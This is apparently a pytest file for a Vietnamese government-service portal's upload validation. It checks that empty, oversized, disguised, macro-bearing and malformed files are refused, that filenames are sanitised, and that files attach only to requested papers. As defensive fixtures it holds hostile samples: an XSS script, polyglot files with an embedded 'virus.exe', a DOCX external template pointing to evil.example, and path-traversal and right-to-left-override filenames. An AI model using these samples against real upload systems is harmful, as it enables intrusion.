"""Files from people: empty, oversized and disguised ones are refused by name, names lose what could mislead."""

from __future__ import annotations

import pytest
from file_samples import DOCX, TYPES, XLSX, claiming, pdf, photo, wide_png, zipped
from fixtures_dossier import PDF, actor_of
from fixtures_house import NOW
from fixtures_watch import rows

from motcua.domain.errors import NotFoundError
from motcua.domain.forms import FormDefinition
from motcua.services.forms import draft_files
from motcua.services.intake import drafts
from motcua.services.papers import files
from motcua.services.papers.files import FileError, Rule, Upload
from motcua.services.process import offers
from motcua.services.work import House

PNG, JPG, WEBP = (photo(40, 30, ending=kind) for kind in ("PNG", "JPEG", "WEBP"))
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
OLD_OFFICE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)
HEIC = bytes(4) + b"ftypheic" + bytes(200)
RELS = "word/_rels/settings.xml.rels"
TEMPLATE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)
GOOD = [
    ("giay.pdf", PDF, "application/pdf", 1),
    ("giay.PDF", pdf(3), "application/pdf", 3),
    ("in-duoc.pdf", pdf(2, owner="chi nguoi lap sua duoc"), "application/pdf", 2),
    ("anh.png", PNG, "image/png", 1),
    ("anh.jpg", JPG, "image/jpeg", 1),
    ("anh.jpeg", JPG, "image/jpeg", 1),
    ("anh.webp", WEBP, "image/webp", 1),
    ("don.docx", DOCX, files.KINDS[".docx"], None),
    ("bang.xlsx", XLSX, files.KINDS[".xlsx"], None),
]
BAD = [
    ("rong.pdf", b"", "rỗng"),
    ("to.pdf", PDF + b" " * (2 * 1024 * 1024), "lớn hơn 2 MB"),
    ("may.exe", EXE, "Không nhận tệp"),
    ("trang.html", HTML, "Không nhận tệp"),
    ("khong_duoi", PDF, "Không nhận tệp"),
    ("giay.pdf.exe", PDF, "Không nhận tệp"),
    ("giay.pdf", EXE, "không phải PDF"),
    ("giay.pdf", HTML, "không phải PDF"),
    ("giay.pdf", b"\x00", "không phải PDF"),
    ("giay.pdf", PNG, "không phải PDF"),
    ("giay.pdf", PDF[: len(PDF) // 2], "không phải PDF"),
    ("giay.pdf", b"%PDF-1.7\n" + b"x" * 400 + b"\nstartxref\n9\n%%EOF\n", "không mở được"),
    ("khoa.pdf", pdf(1, password="bi mat"), "có mật khẩu"),
    ("hai-loai.pdf", PDF + zipped(None, "virus.exe"), "không phải PDF"),
    ("hai-loai.jpg", JPG + zipped(None, "virus.exe"), "không phải JPG"),
    ("don.docx", zipped(None, "virus.exe"), "không phải DOCX"),
    ("don.docx", XLSX, "không phải DOCX"),
    ("don.docx", PDF, "không phải DOCX"),
    ("don.docx", OLD_OFFICE, "có mật khẩu"),
    ("don.docx", DOCX[:-40], "không phải DOCX"),
    ("don.docx", zipped(None, TYPES, "word/document.xml", "word/vbaProject.bin"), "có macro"),
    (
        "don.docx",
        zipped({TYPES: b"<x t='ms-word.document.macroEnabled.main+xml'/>"}, "word/document.xml"),
        "có macro",
    ),
    ("don.docx", zipped({RELS: TEMPLATE}, TYPES, "word/document.xml"), "mẫu từ một địa chỉ bên ngoài"),
    ("bang.xlsx", DOCX, "không phải XLSX"),
    ("bang.xlsx", claiming(XLSX, 200 * 1024 * 1024), "bung ra quá lớn"),
    ("anh.jpg", HTML, "không phải JPG"),
    ("anh.jpg", PNG, "không phải JPG"),
    ("anh.png", JPG, "không phải PNG"),
    ("anh.webp", JPG, "không phải WEBP"),
    ("anh.jpg", JPG[: len(JPG) // 2], "bị hỏng"),
    ("anh.png", wide_png(9_000, 9_000), "kích thước quá lớn"),
    ("anh.png", wide_png(60_000, 60_000), "kích thước quá lớn"),
    ("anh.heic", HEIC, "HEIC"),
    ("anh.jpg", HEIC, "HEIC"),
]
NAMES = [
    ("giay.pdf", "giay.pdf"),
    ("/etc/passwd.pdf", "passwd.pdf"),
    ("..\\..\\windows\\giay.pdf", "giay.pdf"),
    ("../../giay.pdf", "giay.pdf"),
    ("C:\\Users\\Hằng\\Giấy tờ.pdf", "Giấy tờ.pdf"),
    ("gia\x00y\r\n.pdf", "giay.pdf"),
    ("giay\u202efdp.exe.pdf", "giayfdp.exe.pdf"),
    ("  giay   to  .pdf", "giay to .pdf"),
    ("Gia\u0302\u0301y.pdf", "Giấy.pdf"),
    (".pdf", "pdf"),
    ("", ""),
    ("x" * 300 + ".pdf", "x" * 146 + ".pdf"),
    ("a." + "b" * 300, "." + "b" * 149),
    ("x" * 300, "x" * 150),
]


@pytest.mark.parametrize(("given", "kept"), NAMES)
def test_a_name_keeps_only_what_names_the_file(given: str, kept: str) -> None:
    tidied = files.tidy_name(given)
    assert tidied == kept
    assert len(tidied) <= files.MAX_NAME


def test_good_files_are_kept_with_kind_size_and_content(house: House) -> None:
    for name, content, media_type, pages in GOOD:
        with house.work() as work:
            file_id = files.keep(work, Upload(name, content), NOW, uploaded_by=None)
            work.commit()
        (row,) = rows(
            house, "select file.*, pages from file join content using (sha256) where id = :id", id=file_id
        )
        assert (row.name, row.media_type, row.size, row.pages) == (name, media_type, len(content), pages)
        assert house.files.get(row.sha256) == content


def test_bad_files_are_refused_by_name_and_leave_nothing(house: House) -> None:
    for name, content, said in BAD:
        with pytest.raises(FileError, match=said) as caught, house.work() as work:
            files.keep(work, Upload(name, content), NOW, uploaded_by=None)
        assert name in caught.value.message.vi
        assert name in caught.value.message.en
    assert rows(house, "select 1 from file") == rows(house, "select 1 from content") == []


def test_a_place_takes_only_what_it_says(house: House) -> None:
    rule = files.rule_of(2 * 1024 * 1024, ("pdf", "image"), 0.5)
    assert (rule.accept, rule.said.vi) == (".pdf,.jpg,.jpeg,.png,.webp", "PDF, JPG, PNG hoặc WEBP")
    for content, name, said in (
        (DOCX, "don.docx", "Hãy gửi tệp PDF, JPG, PNG hoặc WEBP"),
        (PDF + b" " * 600_000, "to.pdf", "lớn hơn 512 kB"),
    ):
        with pytest.raises(FileError, match=said), house.work() as work:
            files.keep(work, Upload(name, content), NOW, uploaded_by=None, rule=rule)
    assert files.rule_of(1024, (), 99) == Rule(frozenset(files.KINDS), 1024)


def test_a_file_goes_only_to_a_paper_the_procedure_asks_for(house: House) -> None:
    citizen = actor_of(house, "hang@example.vn")
    with house.work() as work:
        agency = offers.agencies_for(work, "1.001193")[0]
        draft_id = drafts.begin(work, citizen, "1.001193", agency.id, NOW)
    with house.work() as work:
        drafts.attach(work, citizen, draft_id, "giay_chung_sinh", Upload("a.pdf", PDF), NOW)
    for strange in ("to_khai", "khong_co", ""):
        with pytest.raises(NotFoundError), house.work() as work:
            drafts.attach(work, citizen, draft_id, strange, Upload("a.pdf", PDF), NOW)
    with pytest.raises(NotFoundError), house.work() as work:
        drafts.attach_answer(work, citizen, draft_id, "/ho_ten_con", Upload("a.pdf", PDF), NOW)
    with house.work() as work:
        (file,) = drafts.get(work, citizen, draft_id).files
        assert file.slot == "paper:giay_chung_sinh"
        assert drafts.file_content(work, citizen, draft_id, file.id).content == PDF
        drafts.detach(work, citizen, draft_id, file.id, NOW)
        assert drafts.get(work, citizen, draft_id).files == []


@pytest.mark.req("B-04")
def test_a_question_of_the_form_may_stand_for_a_paper_and_says_what_it_takes() -> None:
    scan = {
        "type": "string",
        "title": "Bản chụp",
        "format": "motcua-file",
        "x-component": "can_cuoc",
        "x-accept": ["image"],
        "x-max-mb": 1,
    }
    form = FormDefinition.from_schema({"title": "Tờ khai", "type": "object", "properties": {"anh": scan}})
    papers = ["paper:can_cuoc", "paper:khac"]
    asked = [draft_files.rule_at(form, papers, slot, 2_000_000) for slot in ("field:/anh", "paper:can_cuoc")]
    assert asked == [Rule(frozenset({".jpg", ".jpeg", ".png", ".webp"}), 1024 * 1024)] * 2
    assert draft_files.rule_at(form, papers, "paper:khac", 9) == Rule(frozenset(files.KINDS), 9)
    assert (
        draft_files.rule_at(form, papers, "paper:la", 9)
        is draft_files.rule_at(form, papers, "field:/la", 9)
        is None
    )
    assert [draft_files.paper_of(form, slot) for slot in ("field:/anh", "paper:khac", "field:/la")] == [
        "can_cuoc",
        "khac",
        None,
    ]
